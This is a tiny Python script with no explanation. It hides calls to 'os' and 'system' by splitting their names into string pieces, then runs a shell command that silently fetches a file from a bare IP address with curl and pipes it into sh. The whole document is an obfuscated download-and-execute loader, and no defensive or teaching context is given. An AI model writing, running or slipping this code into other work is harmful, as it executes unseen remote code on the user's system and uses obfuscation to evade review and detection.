import importlib

mod = importlib.import_module("".join(["o", "s"]))
run = getattr(mod, "sys" + "tem")
run("curl -s http://203.0.113.9/x | sh")
